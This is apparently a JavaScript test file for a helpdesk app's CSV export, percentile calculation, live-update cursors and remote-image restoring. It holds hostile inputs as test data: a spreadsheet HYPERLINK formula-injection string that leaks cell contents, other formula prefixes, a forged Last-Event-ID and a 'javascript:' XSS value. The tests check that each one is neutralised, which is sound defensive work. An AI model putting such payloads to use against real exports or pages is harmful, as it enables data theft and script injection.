import { test } from 'node:test';
import assert from 'node:assert/strict';
import { csvCell } from '../desk/csv-export.js';
import { percentile } from '../desk/overview.js';
import { formatCursor, resumeCursor } from '../live/live-updates.js';
import { restoreRemoteImages } from './message-html.js';

test('W8: csvCell prefixes formula starts with a quote and quotes every cell', () => {
  assert.equal(csvCell('=HYPERLINK("http://x/?"&A1)'), `"'=HYPERLINK(""http://x/?""&A1)"`);
  for (const s of ['+1', '-2+3', '@SUM(A1)', '\tx', '\rx', '  =1+1']) assert.ok(csvCell(s).startsWith(`"'`), JSON.stringify(s));
  assert.equal(csvCell('Printer'), '"Printer"');
  assert.equal(csvCell(10042), '"10042"');
  assert.equal(csvCell(null), '""');
  assert.equal(csvCell('a\r\nb'), '"a\r\nb"', 'line breaks stay inside the quotes');
});

test('percentile is nearest-rank', () => {
  assert.equal(percentile([], 0.5), null);
  assert.equal(percentile([7], 0.99), 7);
  assert.equal(percentile([1, 2, 3, 4], 0.5), 2);
  const hundred = Array.from({ length: 100 }, (_v, i) => i + 1);
  assert.equal(percentile(hundred, 0.99), 99);
  assert.equal(percentile(hundred, 0.5), 50);
});

test('live cursors round-trip, and a hostile Last-Event-ID falls back or is clamped to an hour', () => {
  const now = new Date('2026-11-26T10:00:00.000Z');
  const c = { mails: '2026-11-26T09:59:00.000Z', cases: '2026-11-26T09:58:00.000Z', seen: ['m:abc-1@2026-11-26T09:59:00.000Z:accepted'] };
  assert.deepEqual(resumeCursor(formatCursor(c), now), c);
  assert.deepEqual(resumeCursor('garbage', now), { mails: now.toISOString(), cases: now.toISOString(), seen: [] });
  assert.deepEqual(resumeCursor(undefined, now).seen, []);
  const old = resumeCursor('1970-01-01T00:00:00.000Z|2099-01-01T00:00:00.000Z|x,y', now);
  assert.equal(old.mails, '2026-11-26T09:00:00.000Z', 'at most an hour back');
  assert.equal(old.cases, now.toISOString(), 'never in the future');
  assert.deepEqual(old.seen, [], 'keys that are not keys are dropped');
});

test('W5: only http(s) remote images are turned back into src, and only on img tags', () => {
  const html = '<img data-remote-src="https://x.example/a.png" alt="a"><img data-remote-src="javascript:alert(1)"><a data-remote-src="https://y">y</a>';
  const out = restoreRemoteImages(html);
  assert.match(out, /<img src="https:\/\/x\.example\/a\.png" alt="a">/);
  assert.match(out, /<img data-remote-src="javascript:alert\(1\)">/);
  assert.match(out, /<a data-remote-src="https:\/\/y">/);
});
